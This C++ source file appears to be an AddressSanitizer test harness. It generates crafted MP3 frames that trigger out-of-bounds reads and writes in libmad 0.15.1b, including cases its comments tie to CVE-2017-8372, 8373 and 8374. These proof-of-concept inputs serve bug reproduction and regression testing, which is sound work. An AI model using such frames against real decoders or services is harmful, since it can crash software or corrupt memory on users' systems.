// Crafted frames that make libmad 0.15.1b write or read outside its buffers (native, under AddressSanitizer).
// Usage: mad_crafted <case>      decodes one crafted stream, prints how each frame ended, exits 0
//        mad_crafted --list      prints the case names
//        mad_crafted --file F    decodes a whole MP3 file, prints "frames N errors M pcm <hash of the output>"
// Each stream lies in a heap block of exactly its own size, so a read one byte past it is reported.
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

#include <mad.h>

namespace
{
// Writes fields most significant bit first, as MPEG audio stores them.
class CBits
{
public:
    void Put(unsigned value, unsigned width)
    {
        for (unsigned i = width; i-- > 0;) {
            if (m_bit == 0)
                m_bytes.push_back(0);
            if ((value >> i) & 1)
                m_bytes.back() |= static_cast<unsigned char>(0x80 >> m_bit);
            m_bit = (m_bit + 1) % 8;
        }
    }
    void Fill(unsigned char byte, size_t total) // pads with whole bytes up to total
    {
        m_bit = 0;
        while (m_bytes.size() < total)
            m_bytes.push_back(byte);
    }
    const std::vector<unsigned char>& Bytes() const { return m_bytes; }

private:
    std::vector<unsigned char> m_bytes;
    unsigned m_bit = 0;
};

// One granule's side information of a mono MPEG-1 Layer III frame (59 bits).
struct Granule
{
    unsigned part23 = 0, bigValues = 0, globalGain = 0, sfCompress = 0;
    bool shortBlocks = false; // window switching with block type 2
    unsigned count1Table = 0;
};

// A mono MPEG-1 Layer III frame of `size` bytes: header, side information, main data of `fill`.
std::vector<unsigned char> Layer3Frame(unsigned char bitrateAndRate, size_t size, unsigned mainDataBegin,
                                       const Granule (&gr)[2], unsigned char fill)
{
    CBits b;
    b.Put(0xFFFB, 16); // sync, MPEG-1, Layer III, no CRC
    b.Put(bitrateAndRate, 8);
    b.Put(0xC0, 8); // mono
    b.Put(mainDataBegin, 9);
    b.Put(0, 5); // private bits
    b.Put(0, 4); // scfsi
    for (const Granule& g : gr) {
        b.Put(g.part23, 12);
        b.Put(g.bigValues, 9);
        b.Put(g.globalGain, 8);
        b.Put(g.sfCompress, 4);
        b.Put(g.shortBlocks ? 1 : 0, 1);
        if (g.shortBlocks) {
            b.Put(2, 2); // block type
            b.Put(0, 1); // not mixed
            b.Put(0, 10); // two table selects
            b.Put(0, 9); // subblock gains
        }
        else {
            b.Put(0, 15); // three table selects
            b.Put(0, 7); // region counts
        }
        b.Put(0, 2); // preflag, scalefac_scale
        b.Put(g.count1Table, 1);
    }
    b.Fill(fill, size);
    return b.Bytes();
}

void Append(std::vector<unsigned char>& out, const std::vector<unsigned char>& part)
{
    out.insert(out.end(), part.begin(), part.end());
}

// The guard libmad wants after the last frame: another frame's header, then zeros.
void AppendGuard(std::vector<unsigned char>& out, const unsigned char (&header)[4])
{
    out.insert(out.end(), header, header + 4);
    out.insert(out.end(), MAD_BUFFER_GUARD - 4, 0);
}

// CVE-2017-8372 and CVE-2017-8373: free-format frames of 2880 bytes (640 kbps at 32 kHz) whose
// main data, appended to 511 bytes of reservoir, outgrows the reservoir buffer.
std::vector<unsigned char> ReservoirOverflow()
{
    const Granule silent[2];
    std::vector<unsigned char> s;
    Append(s, Layer3Frame(0x08, 2880, 0, silent, 0));
    Append(s, Layer3Frame(0x08, 2880, 511, silent, 0));
    Append(s, Layer3Frame(0x08, 2880, 0, silent, 0));
    AppendGuard(s, {0xFF, 0xFB, 0x08, 0xC0});
    return s;
}

// CVE-2017-8374: a granule claiming 4095 bits of main data in a 144-byte frame: the Huffman
// decoder skips past them and mad_bit_skip reads the byte there.
std::vector<unsigned char> SkipPastData()
{
    Granule gr[2];
    gr[0].part23 = 4095;
    std::vector<unsigned char> s = Layer3Frame(0x18, 144, 0, gr, 0);
    AppendGuard(s, {0xFF, 0xFB, 0x18, 0xC0});
    return s;
}

// The second granule's short-block scalefactors (126 bits) start where the main data ends,
// although its part2_3_length is 0: they are read from past the frame and its guard.
std::vector<unsigned char> ScalefactorsPastData()
{
    Granule gr[2];
    gr[0].part23 = (144 - 4 - 17) * 8; // the whole main data: count1 quads of table B, then stuffing
    gr[0].count1Table = 1;
    gr[1].shortBlocks = true;
    gr[1].sfCompress = 15; // slen1 4, slen2 3
    std::vector<unsigned char> s = Layer3Frame(0x18, 144, 0, gr, 0xFF);
    AppendGuard(s, {0xFF, 0xFB, 0x18, 0xC0});
    return s;
}

// A 32-byte Layer I frame (32 kbps at 48 kHz) allocating 15 bits to every sample of every
// subband: about 750 bytes of samples are read.
std::vector<unsigned char> Layer1Allocation()
{
    std::vector<unsigned char> s = {0xFF, 0xFF, 0x14, 0xC0};
    s.resize(32, 0xEE);
    AppendGuard(s, {0xFF, 0xFF, 0x14, 0xC0});
    return s;
}

// A 96-byte Layer II frame (32 kbps at 48 kHz) allocating the most to every subband.
std::vector<unsigned char> Layer2Allocation()
{
    std::vector<unsigned char> s = {0xFF, 0xFD, 0x14, 0xC0};
    s.resize(96, 0xFF);
    AppendGuard(s, {0xFF, 0xFD, 0x14, 0xC0});
    return s;
}

struct Case
{
    const char* name;
    std::vector<unsigned char> (*make)();
};
const Case g_cases[] = {
    {"reservoir-overflow", ReservoirOverflow},
    {"skip-past-data", SkipPastData},
    {"scalefactors-past-data", ScalefactorsPastData},
    {"layer1-allocation", Layer1Allocation},
    {"layer2-allocation", Layer2Allocation},
};

// Decodes the bytes from an exactly sized heap block; prints one line per frame and returns
// the count of frames decoded and of errors, and a hash of the synthesised samples.
void Decode(const std::vector<unsigned char>& bytes, bool verbose, unsigned* frames, unsigned* errors,
            unsigned long long* pcm)
{
    unsigned char* block = static_cast<unsigned char*>(malloc(bytes.size()));
    memcpy(block, bytes.data(), bytes.size());
    mad_stream stream;
    mad_frame frame;
    mad_synth synth;
    mad_stream_init(&stream);
    mad_frame_init(&frame);
    mad_synth_init(&synth);
    mad_stream_buffer(&stream, block, bytes.size());
    *frames = *errors = 0;
    *pcm = 14695981039346656037ull;
    for (;;) {
        if (mad_frame_decode(&frame, &stream) == 0) {
            mad_synth_frame(&synth, &frame);
            for (unsigned ch = 0; ch < synth.pcm.channels; ++ch) {
                for (unsigned i = 0; i < synth.pcm.length; ++i)
                    *pcm = (*pcm ^ static_cast<unsigned>(synth.pcm.samples[ch][i])) * 1099511628211ull;
            }
            ++*frames;
            if (verbose)
                printf("frame %u decoded\n", *frames + *errors);
            continue;
        }
        if (stream.error == MAD_ERROR_BUFLEN)
            break;
        if (verbose)
            printf("frame %u: %s\n", *frames + *errors + 1, mad_stream_errorstr(&stream));
        if (!MAD_RECOVERABLE(stream.error))
            break;
        ++*errors;
    }
    mad_synth_finish(&synth);
    mad_frame_finish(&frame);
    mad_stream_finish(&stream);
    free(block);
}
} // namespace

int main(int argc, char** argv)
{
    if (argc == 2 && strcmp(argv[1], "--list") == 0) {
        for (const Case& c : g_cases)
            printf("%s\n", c.name);
        return 0;
    }
    unsigned frames = 0, errors = 0;
    unsigned long long pcm = 0;
    if (argc == 3 && strcmp(argv[1], "--file") == 0) {
        FILE* f = fopen(argv[2], "rb");
        if (!f)
            return 2;
        std::vector<unsigned char> bytes;
        int c;
        while ((c = fgetc(f)) != EOF)
            bytes.push_back(static_cast<unsigned char>(c));
        fclose(f);
        bytes.insert(bytes.end(), MAD_BUFFER_GUARD, 0); // lets the last frame decode
        Decode(bytes, false, &frames, &errors, &pcm);
        printf("frames %u errors %u pcm %016llx\n", frames, errors, pcm);
        return 0;
    }
    for (const Case& c : g_cases) {
        if (argc == 2 && c.name == std::string(argv[1])) {
            Decode(c.make(), true, &frames, &errors, &pcm);
            printf("%s: frames %u errors %u\n", c.name, frames, errors);
            return 0;
        }
    }
    fprintf(stderr, "usage: mad_crafted <case> | --list | --file F\n");
    return 2;
}
